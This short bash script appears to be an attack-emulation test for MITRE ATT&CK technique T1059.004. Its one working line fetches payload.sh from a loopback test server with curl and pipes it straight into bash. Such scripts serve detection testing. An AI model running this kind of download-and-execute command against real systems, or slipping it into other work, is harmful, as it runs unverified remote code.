#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1059.004
# tactic: execution
# what: curl -fsSL URL | bash: a script from the (loopback) web run by a shell reading a pipe
. "$AT_LIB"
curl -fsSL "$AT_HTTP/payload.sh" | bash >/dev/null
